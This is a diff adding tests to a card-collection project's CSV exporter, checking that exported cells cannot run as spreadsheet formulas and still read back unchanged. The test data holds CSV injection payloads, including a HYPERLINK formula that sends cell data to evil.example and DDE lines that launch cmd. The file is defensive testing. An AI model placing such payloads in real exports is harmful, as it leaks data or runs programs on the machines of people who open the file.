@@ -2,14 +2,17 @@ import csv
 import io
 import xml.etree.ElementTree as ET
 
-from cards.parsing.cubecobra_csv import parse_cubecobra_csv
+from hypothesis import given
+from hypothesis import strategies as st
+
+from cards.parsing.cubecobra_csv import inert_cell, parse_cubecobra_csv, read_cell
 from cards.parsing.exports import (
     CUBECOBRA_HEADER,
     export_cockatrice_deck,
     export_cubecobra_csv,
     export_plain_text,
 )
-from cards.parsing.facts import CardRecord
+from cards.parsing.facts import CardRecord, normalise_name
 from cards.parsing.plaintext import parse_plain_text
 
 LEGACY_CSV = (
@@ -100,3 +103,37 @@ def test_cockatrice_deck_is_escaped_xml_with_zones():
 def test_cockatrice_deck_without_maybeboard_has_only_main():
     root = ET.fromstring(export_cockatrice_deck([{"name": "Opt"}]))
     assert [zone.get("name") for zone in root.iter("zone")] == ["main"]
+
+
+# Cells a spreadsheet runs when it opens a CSV (OWASP's CSV injection payloads), and the starts
+# that make a cell a formula in Excel, LibreOffice and Google Sheets.
+INJECTIONS = [
+    '=HYPERLINK("https://evil.example/?"&A1,"Click")', "=1+1", "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=1+1", "''@x",
+]  # fmt: skip
+RUNS = ("=", "@", "\t", "\r", "+", "-")
+
+
+def test_no_cell_of_a_csv_export_runs_in_a_spreadsheet_and_each_reads_back():
+    cards = [{"name": text, "tags": [text], "notes": text} for text in INJECTIONS]
+    exported = export_cubecobra_csv(cards)
+    for row in list(csv.reader(io.StringIO(exported)))[1:]:
+        for cell in row:
+            assert not cell.startswith(RUNS), row
+    read = parse_cubecobra_csv(exported, resolve=lambda name: True).rows
+    expected = [(normalise_name(text), [text.strip()], text.strip()) for text in INJECTIONS]
+    assert [(row.name, row.tags, row.notes) for row in read] == expected
+
+
+@given(cell=st.text(alphabet=st.sampled_from("=@+-'\t\r(|!aZ 1"), max_size=8) | st.text(max_size=8))
+def test_every_cell_reads_back_as_it_was_and_none_starts_a_formula(cell):
+    written = inert_cell(cell)
+    assert read_cell(written) == cell
+    runs = written.startswith(("=", "@", "\t", "\r")) or (
+        written.startswith(("+", "-")) and any(sign in written for sign in "(|!")
+    )
+    assert not runs, written
+
+
+def test_a_card_whose_name_starts_with_a_sign_is_written_as_it_is():
+    assert inert_cell("+2 Mace") == "+2 Mace"  # no function, program or sheet: nothing runs
